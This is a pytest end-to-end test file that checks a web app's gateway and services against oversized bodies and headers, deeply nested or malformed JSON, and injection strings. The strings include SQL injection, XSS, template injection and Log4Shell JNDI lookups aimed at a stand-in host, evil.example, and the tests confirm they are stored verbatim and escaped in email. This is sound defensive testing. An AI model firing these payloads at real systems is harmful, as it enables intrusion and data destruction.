"""Abusive requests: oversized bodies and headers, deeply nested or malformed JSON, injection strings in every
free-text field (stored verbatim, rendered harmlessly in email)."""

import uuid
from collections.abc import AsyncIterator

import httpx
import pytest

from shared.testing import poll
from tests.e2e.conftest import RunningStack
from tests.e2e.flows import messages_to, new_email, wait_for_mail

from .conftest import Secrets, new_shop

MIB = 1024 * 1024
INJECTION = "Robert'); DROP TABLE users; -- {{7*7}} <script>alert(1)</script> ${jndi:ldap://evil.example/a}"
SERVICES = ("identity", "billing", "onboarding", "notifications")


def public_posts(running_stack: RunningStack) -> list[str]:
    """A JSON route per app that reads a body without a token (the gateway's, then each service's)."""
    return [
        running_stack.gateway_url + "/api/v1/auth/register",
        running_stack.url("identity") + "/api/v1/auth/login/json",
        running_stack.url("billing") + "/api/v1/billing/checkout-session",
        running_stack.url("onboarding") + "/api/v1/sales-leads",
        running_stack.url("notifications") + "/api/v1/email/unsubscribe",
    ]


@pytest.fixture
async def client() -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(timeout=30.0) as http:
        yield http


async def test_body_over_one_mib_is_413_at_the_gateway(running_stack: RunningStack, client: httpx.AsyncClient) -> None:
    email = new_email("big")
    body = b'{"email": "' + email.encode() + b'", "name": "' + b"x" * MIB + b'", "password": "Correct-Horse-9"}'
    declared = await client.post(
        running_stack.gateway_url + "/api/v1/auth/register", content=body, headers={"Content-Type": "application/json"}
    )

    async def chunks() -> AsyncIterator[bytes]:
        for start in range(0, len(body), 64 * 1024):
            yield body[start : start + 64 * 1024]

    streamed = await client.post(
        running_stack.gateway_url + "/api/v1/auth/register",
        content=chunks(),
        headers={"Content-Type": "application/json"},
    )
    for answer in (declared, streamed):
        assert answer.status_code == 413, answer.text
        assert answer.json() == {"detail": {"error": "payload_too_large"}}
    login = await client.post(
        running_stack.gateway_url + "/api/v1/auth/login/json", json={"email": email, "password": "Correct-Horse-9"}
    )
    assert login.status_code == 401  # nothing was registered


@pytest.mark.parametrize("size", [64 * 1024, 512 * 1024])
async def test_very_long_header_is_431_at_the_gateway_and_never_500_at_a_service(
    running_stack: RunningStack, client: httpx.AsyncClient, size: int
) -> None:
    for path in ("/api/v1/auth/me", "/api/v1/auth/register", "/api/v1/no-such-route"):
        for headers in ({"X-Padding": "a" * size}, {"Authorization": "Bearer " + "a" * size}):
            answer = await client.get(running_stack.gateway_url + path, headers=headers)
            assert answer.status_code == 431, (path, answer.status_code, answer.text[:200])
            assert answer.json() == {"detail": {"error": "headers_too_large"}}
    for service in SERVICES:
        url = running_stack.url(service) + "/api/v1/auth/me"
        for headers in ({"X-Padding": "a" * size}, {"Authorization": "Bearer " + "a" * size}):
            try:
                answer = await client.get(url, headers=headers)
            except httpx.RemoteProtocolError:
                continue  # the server closed the connection on the oversized head: refused, not crashed
            assert answer.status_code < 500, (url, size, answer.status_code)
    for app in ("gateway", *SERVICES):
        assert (await client.get(running_stack.url(app) + "/healthz")).status_code == 200


async def test_ordinary_header_sizes_still_pass_the_gateway(
    running_stack: RunningStack, client: httpx.AsyncClient
) -> None:
    answer = await client.get(running_stack.gateway_url + "/api/v1/config/public", headers={"X-Padding": "a" * 8192})
    assert answer.status_code == 200, answer.text


@pytest.mark.parametrize("shape", ["array", "object"])
async def test_deeply_nested_json_is_4xx_not_500_nor_a_hang(
    running_stack: RunningStack, client: httpx.AsyncClient, shape: str
) -> None:
    depth = 10_000
    body = "[" * depth + "]" * depth if shape == "array" else '{"a":' * depth + "1" + "}" * depth
    for url in public_posts(running_stack):
        answer = await client.post(url, content=body, headers={"Content-Type": "application/json"})
        assert 400 <= answer.status_code < 500, (url, answer.status_code, answer.text[:200])


async def test_invalid_utf8_and_malformed_json_bodies_are_4xx(
    running_stack: RunningStack, client: httpx.AsyncClient
) -> None:
    bodies = [
        b'{"email": "\xff\xfe@example.com", "password": "\xc3\x28", "name": "\xed\xa0\x80"}',
        b"\xff\xfe\xfd",
        b'{"email": ',
        b'{"email": "a@example.com"' + b"\x00" * 16 + b"}",
        b'{"name": "\\ud800"}',
    ]
    for url in public_posts(running_stack):
        for body in bodies:
            answer = await client.post(url, content=body, headers={"Content-Type": "application/json"})
            assert 400 <= answer.status_code < 500, (url, body[:20], answer.status_code, answer.text[:200])


async def test_injection_strings_are_stored_verbatim_and_escaped_in_email(
    gateway: httpx.AsyncClient, mail: httpx.AsyncClient, secrets_seen: Secrets
) -> None:
    owner = await new_shop(gateway, secrets_seen, tag="inject", name=INJECTION)
    me = (await gateway.get("/api/v1/auth/me", headers=owner.headers)).json()
    assert me["name"] == INJECTION
    account = (await gateway.get("/api/v1/accounts/me", headers=owner.headers)).json()
    assert account["name"] == f"{INJECTION}'s Account"

    invitee = new_email("inject-mate")
    invited = await gateway.post("/api/v1/accounts/me/invites", json={"email": invitee}, headers=owner.headers)
    assert invited.status_code == 201, invited.text
    [message] = await wait_for_mail(mail, invitee)
    assert INJECTION in message["subject"]
    assert INJECTION in message["text"]
    html = str(message["html"])
    assert "<script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "{{7*7}}" in html
    assert "DROP TABLE users" in html

    renamed = await gateway.patch("/api/v1/accounts/me", json={"name": INJECTION}, headers=owner.headers)
    assert renamed.status_code == 200, renamed.text
    assert renamed.json()["name"] == INJECTION
    profile = await gateway.patch("/api/v1/users/me", json={"name": INJECTION[::-1]}, headers=owner.headers)
    assert profile.status_code == 200, profile.text
    assert (await gateway.get("/api/v1/auth/me", headers=owner.headers)).json()["name"] == INJECTION[::-1]

    company = "{{7*7}} <b>Shop</b> '; DROP TABLE accounts; --"
    step = await gateway.patch(
        "/api/v1/users/me/onboarding-step",
        json={"step": 1, "action": "complete", "data": {"company_name": company}},
        headers=owner.headers,
    )
    assert step.status_code == 200, step.text

    async def renamed_by_onboarding() -> str | None:
        name = (await gateway.get("/api/v1/accounts/me", headers=owner.headers)).json()["name"]
        return str(name) if name == company else None

    assert (
        await poll(renamed_by_onboarding, timeout=20.0, interval=0.2, message="account renamed to company") == company
    )
    # the tables the strings named are still there
    again = await gateway.post("/api/v1/auth/login/json", json={"email": owner.email, "password": "Correct-Horse-9"})
    assert again.status_code == 200
    secrets_seen.add("access token", again.json()["access_token"])
    secrets_seen.add("refresh token", again.json()["refresh_token"])


async def test_sales_lead_with_injection_strings_reaches_sales_escaped(
    gateway: httpx.AsyncClient, mail: httpx.AsyncClient
) -> None:
    marker = uuid.uuid4().hex
    lead = {
        "email": new_email("lead"),
        "name": INJECTION,
        "company": f"{marker} <img src=x onerror=alert(1)> {{{{7*7}}}}",
        "message": INJECTION + "\n${jndi:rmi://evil.example/b} %s %n {0} ${7*7} #{7*7}",
        "source": "pricing_page",
    }
    created = await gateway.post("/api/v1/sales-leads", json=lead)
    assert created.status_code == 201, created.text

    async def notice() -> dict[str, object] | None:
        found = [m for m in await messages_to(mail, "sales@example.com") if marker in str(m.get("text"))]
        return found[-1] if found else None

    message = await poll(notice, timeout=20.0, interval=0.2, message="sales lead notice")
    html, text = str(message["html"]), str(message["text"])
    assert "<script>" not in html
    assert "<img src=x" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "{{7*7}}" in text
    assert INJECTION in text
